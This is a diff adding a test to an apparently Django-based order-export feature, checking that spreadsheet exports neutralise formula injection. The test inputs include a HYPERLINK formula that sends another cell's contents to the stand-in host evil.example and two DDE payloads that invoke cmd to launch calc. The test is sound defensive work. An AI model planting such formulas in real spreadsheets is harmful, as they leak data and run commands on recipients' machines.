@@ -339,6 +339,25 @@ def test_the_export_follows_the_filters(client, office_staff, housing_order):
     assert [row[0] for row in rows[1:]] == [housing_order.number]
 
 
+def test_the_export_keeps_text_that_looks_like_a_formula_as_text(client, office_staff):
+    title = '=HYPERLINK("http://evil.example/?"&O2,"点此查看")'
+    business = "+1+cmd|' /C calc'!A0"
+    content = "@SUM(1+1)*cmd|' /C calc'!A0 电梯坏了一个月"
+    intake(office_staff, title=title, business_name=business, content=content, amount="12.50")
+    client.force_login(office_staff)
+    response = client.get("/orders/export.xlsx?tab=all")
+    sheet = load_workbook(BytesIO(response.content)).active
+    headers = [cell.value for cell in sheet[1]]
+    row = {header: cell for header, cell in zip(headers, sheet[2], strict=True)}
+    for header, text in (("标题", title), ("经营者", business), ("诉求内容", content)):
+        assert row[header].value == text
+        assert row[header].data_type == "s"
+        assert row[header].quotePrefix
+    assert row["涉及金额（元）"].value == 12.5
+    assert row["涉及金额（元）"].data_type == "n"
+    assert not row["编号"].quotePrefix
+
+
 def test_a_unit_uploads_an_attachment_and_downloads_it(
     client, housing_staff, housing_order, settings, tmp_path
 ):
